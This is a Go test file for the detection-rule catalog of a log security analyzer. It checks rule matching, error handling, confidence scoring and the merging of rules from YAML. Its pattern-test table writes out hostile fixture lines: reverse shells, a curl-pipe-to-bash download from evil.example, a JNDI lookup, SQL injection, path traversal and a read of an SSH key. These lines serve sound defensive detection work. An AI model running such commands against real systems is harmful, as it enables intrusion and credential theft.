package rules

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cypher02301/LogSentry-CLI-Security-Analyzer/internal/model"
)

func matches(t *testing.T, c *Catalog, id, line string) bool {
	t.Helper()
	r, ok := c.Get(id)
	require.True(t, ok, "rule %s missing", id)
	for _, re := range r.Patterns {
		if re.MatchString(line) {
			return true
		}
	}
	return false
}

func TestDefaultCatalog(t *testing.T) {
	c, err := Default()
	require.NoError(t, err)

	assert.Equal(t, len(Builtin()), c.Len())
	assert.Equal(t, []string{
		CategoryAuthAttack, CategoryExfiltration, CategoryMalware, CategoryNetworkAttack,
		CategoryReconnaissance, CategorySystemAttack, CategoryWebAttack,
	}, c.Categories())

	for i, r := range c.Rules() {
		assert.Equal(t, i, c.Index(r.ID))
		assert.NotEmpty(t, r.Patterns, r.ID)
		assert.True(t, r.Severity.Valid(), r.ID)
	}
	assert.Equal(t, -1, c.Index("nope"))

	bf, ok := c.Get("brute_force")
	require.True(t, ok)
	assert.True(t, bf.Correlated())
	assert.Equal(t, GroupByUser, bf.GroupBy)
	assert.Equal(t, model.SeverityHigh, bf.Severity)
}

func TestBuiltinReturnsCopy(t *testing.T) {
	a := Builtin()
	a[0].Patterns[0] = "changed"
	a[0].ID = "changed"

	b := Builtin()
	assert.NotEqual(t, "changed", b[0].ID)
	assert.NotEqual(t, "changed", b[0].Patterns[0])
}

func TestBuiltinPatterns(t *testing.T) {
	c, err := Default()
	require.NoError(t, err)

	tests := []struct {
		rule string
		line string
		want bool
	}{
		{"sql_injection", `203.0.113.42 - - [10/Oct/2023:13:55:37 +0000] "POST /login HTTP/1.1' OR 1=1-- " 400 156`, true},
		{"sql_injection", `GET /items?id=1 UNION ALL SELECT password FROM users`, true},
		{"sql_injection", `GET /index.html HTTP/1.1`, false},
		{"xss_attempt", `GET /search?q=<script>alert('xss')</script> HTTP/1.1`, true},
		{"directory_traversal", `GET /admin/../../../etc/passwd HTTP/1.1`, true},
		{"directory_traversal", `GET /static/%2e%2e%2fsecret HTTP/1.1`, true},
		{"lfi_rfi_attempt", `GET /admin/config.php?file=../../../etc/passwd HTTP/1.1`, true},
		{"lfi_rfi_attempt", `GET /index.php?page=php://filter/resource=index HTTP/1.1`, true},
		{"command_injection", `GET /ping?host=127.0.0.1;cat /etc/hosts HTTP/1.1`, true},
		{"command_injection", `GET /search?q=a&id=5 HTTP/1.1`, false},
		{"jndi_injection", `User-Agent: ${jndi:ldap://evil.example/a}`, true},
		{"ssrf_attempt", `GET /fetch?url=http://169.254.169.254/latest/meta-data HTTP/1.1`, true},
		{"failed_login_attempt", `Oct 10 13:55:38 server sshd: Failed login attempt from 203.0.113.42`, true},
		{"failed_login_attempt", `Oct 10 13:55:38 server sshd[1]: Accepted password for alice`, false},
		{"credential_stuffing", `10.0.0.1 - - [10/Oct/2023:13:55:37 +0000] "POST /api/login HTTP/1.1" 401 12`, true},
		{"account_lockout", `user bob: account has been locked`, true},
		{"port_scan", `Oct 10 13:55:38 gw kernel: [UFW BLOCK] IN=eth0 SRC=198.51.100.4 DPT=22`, true},
		{"dns_tunneling", `query: 4a6f686e20446f652069732068657265.tunnel.example.com IN TXT`, true},
		{"scanner_tool", `Nmap scan report for 10.0.0.1`, true},
		{"suspicious_user_agent", `GET /wp-admin/ HTTP/1.1" User-Agent: sqlmap/1.0`, true},
		{"suspicious_user_agent", `1.2.3.4 - - [10/Oct/2023:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "python-requests/2.31.0"`, true},
		{"http_error_response", `1.2.3.4 - - [10/Oct/2023:13:55:36 +0000] "GET /x HTTP/1.1" 404 12`, true},
		{"http_error_response", `1.2.3.4 - - [10/Oct/2023:13:55:36 +0000] "GET /x HTTP/1.1" 200 12`, false},
		{"admin_probe", `GET /wp-login.php HTTP/1.1`, true},
		{"privilege_escalation", `privilege escalation attempt: sudo su - root`, true},
		{"suspicious_file_access", `GET /admin/../../../etc/passwd HTTP/1.1`, true},
		{"suspicious_file_access", `cat /home/u/.ssh/id_rsa`, true},
		{"persistence", `CRON[1]: (root) CMD crontab -e`, true},
		{"reverse_shell", `GET /app?cmd=nc -e /bin/sh 192.168.1.1 4444 HTTP/1.1`, true},
		{"reverse_shell", `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, true},
		{"crypto_mining", `connecting to stratum+tcp://pool.example.com:3333`, true},
		{"web_shell", `POST /uploads/c99.php HTTP/1.1`, true},
		{"malware_download", `curl -s http://evil.example/x.sh | bash`, true},
		{"data_exfiltration", `wget http://10.0.0.1/dump -O /tmp/users.sql`, true},
		{"large_data_transfer", `1.2.3.4 - - [10/Oct/2023:13:55:36 +0000] "GET /backup HTTP/1.1" 200 524288000`, true},
		{"large_data_transfer", `1.2.3.4 - - [10/Oct/2023:13:55:36 +0000] "GET /index.html HTTP/1.1" 200 2326`, false},
	}

	for _, tt := range tests {
		t.Run(tt.rule, func(t *testing.T) {
			assert.Equal(t, tt.want, matches(t, c, tt.rule, tt.line), tt.line)
		})
	}
}

func TestBenignLinesMatchNothing(t *testing.T) {
	c, err := Default()
	require.NoError(t, err)

	benign := []string{
		`192.168.1.1 - - [10/Oct/2023:13:55:36 +0000] "GET /index.html HTTP/1.1" 200 2326`,
		`192.168.1.1 - - [10/Oct/2023:13:55:37 +0000] "GET /css/style.css HTTP/1.1" 200 1234`,
		`Oct 10 13:55:38 server sshd[42]: Accepted publickey for deploy from 10.0.0.8 port 50022`,
		`{"level":"info","msg":"request completed","status":200}`,
	}
	for _, line := range benign {
		for _, r := range c.Rules() {
			for _, re := range r.Patterns {
				assert.False(t, re.MatchString(line), "rule %s matched %q", r.ID, line)
			}
		}
	}
}

func TestNewCatalogErrors(t *testing.T) {
	valid := Definition{ID: "x", Severity: "low", Confidence: 50, Category: "c", Patterns: []string{"abc"}}

	tests := []struct {
		name   string
		mutate func(d *Definition)
		want   string
	}{
		{"bad pattern", func(d *Definition) { d.Patterns = []string{"(unclosed"} }, "(unclosed"},
		{"no patterns", func(d *Definition) { d.Patterns = nil }, "at least one pattern"},
		{"empty pattern", func(d *Definition) { d.Patterns = []string{""} }, "empty pattern"},
		{"unknown severity", func(d *Definition) { d.Severity = "extreme" }, "unknown severity"},
		{"confidence range", func(d *Definition) { d.Confidence = 101 }, "out of range"},
		{"missing id", func(d *Definition) { d.ID = " " }, "rule id is required"},
		{"missing category", func(d *Definition) { d.Category = "" }, "category is required"},
		{"bad group", func(d *Definition) { d.GroupBy = "host" }, "unknown group_by"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := valid
			tt.mutate(&d)
			_, err := NewCatalog([]Definition{d})
			require.Error(t, err)
			assert.True(t, errors.Is(err, ErrRuleCompile))
			var ce *CompileError
			require.True(t, errors.As(err, &ce))
			assert.Contains(t, err.Error(), tt.want)
		})
	}
}

func TestNewCatalogDuplicateID(t *testing.T) {
	d := Definition{ID: "dup", Severity: "low", Category: "c", Patterns: []string{"a"}}
	_, err := NewCatalog([]Definition{d, d})
	require.Error(t, err)
	assert.ErrorIs(t, err, ErrRuleCompile)
	assert.Contains(t, err.Error(), "duplicate")
}

func TestCaseSensitivity(t *testing.T) {
	c, err := NewCatalog([]Definition{
		{ID: "ci", Severity: "low", Category: "c", Patterns: []string{"select"}},
		{ID: "cs", Severity: "low", Category: "c", Patterns: []string{"select"}, CaseSensitive: true},
	})
	require.NoError(t, err)

	assert.True(t, matches(t, c, "ci", "SELECT"))
	assert.False(t, matches(t, c, "cs", "SELECT"))
}

func TestView(t *testing.T) {
	c, err := Default()
	require.NoError(t, err)

	all := c.View(Filter{})
	assert.Equal(t, c.Len(), all.Len())

	high := c.View(Filter{MinSeverity: model.SeverityHigh})
	for _, r := range high.Rules() {
		assert.GreaterOrEqual(t, r.Severity, model.SeverityHigh)
	}
	assert.Less(t, high.Len(), c.Len())

	web := c.View(Filter{Categories: []string{CategoryWebAttack}})
	require.NotZero(t, web.Len())
	prev := -1
	for _, r := range web.Rules() {
		assert.Equal(t, CategoryWebAttack, r.Category)
		assert.Greater(t, c.Index(r.ID), prev, "view keeps catalog order")
		prev = c.Index(r.ID)
	}

	// Views share compiled rules with the catalog.
	r, _ := c.Get(web.Rules()[0].ID)
	assert.Same(t, r, web.Rules()[0])
	assert.Same(t, c, web.Catalog())
}

func TestConfidence(t *testing.T) {
	tests := []struct {
		name string
		base int
		spec Specificity
		want int
	}{
		{"single hit", 80, Specificity{SubPatterns: 1, MatchLen: 10}, 80},
		{"two hits", 80, Specificity{SubPatterns: 2, MatchLen: 10}, 85},
		{"four hits", 80, Specificity{SubPatterns: 4, MatchLen: 10}, 95},
		{"capped", 95, Specificity{SubPatterns: 3, MatchLen: 10}, 100},
		{"short match", 80, Specificity{SubPatterns: 1, MatchLen: 2}, 70},
		{"floor", 5, Specificity{SubPatterns: 1, MatchLen: 1}, 0},
		{"three bytes is not short", 85, Specificity{SubPatterns: 1, MatchLen: 3}, 85},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, Confidence(tt.base, tt.spec))
		})
	}
}

func TestLoadAndMerge(t *testing.T) {
	yml := `
rules:
  - id: sql_injection
    name: Strict SQLi
    severity: critical
    confidence: 90
    category: web_attack
    patterns: ['union\s+select']
  - id: internal_api_probe
    severity: medium
    confidence: 70
    category: reconnaissance
    tags: [custom]
    patterns: ['/internal/v\d+/']
`
	defs, err := Load(strings.NewReader(yml))
	require.NoError(t, err)
	require.Len(t, defs, 2)

	merged := Merge(Builtin(), defs)
	assert.Len(t, merged, len(Builtin())+1)

	c, err := NewCatalog(merged)
	require.NoError(t, err)

	sqli, ok := c.Get("sql_injection")
	require.True(t, ok)
	assert.Equal(t, model.SeverityCritical, sqli.Severity)
	assert.Equal(t, 0, c.Index("sql_injection"), "override keeps position")
	assert.Equal(t, c.Len()-1, c.Index("internal_api_probe"))

	probe, _ := c.Get("internal_api_probe")
	assert.True(t, probe.HasTag("custom"))
	assert.Equal(t, "internal_api_probe", probe.Name, "name defaults to id")
}

func TestLoadRejectsUnknownKeys(t *testing.T) {
	_, err := Load(strings.NewReader("rules:\n  - id: x\n    sevrity: low\n"))
	require.Error(t, err)
}

func TestLoadCatalogFromFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "custom.yaml")
	require.NoError(t, os.WriteFile(path, []byte(`
rules:
  - id: bad
    severity: low
    category: c
    patterns: ['(']
`), 0o644))

	_, err := LoadCatalog(path)
	require.Error(t, err)
	assert.ErrorIs(t, err, ErrRuleCompile)

	_, err = LoadCatalog(filepath.Join(dir, "missing.yaml"))
	require.Error(t, err)
	assert.ErrorIs(t, err, os.ErrNotExist)
}
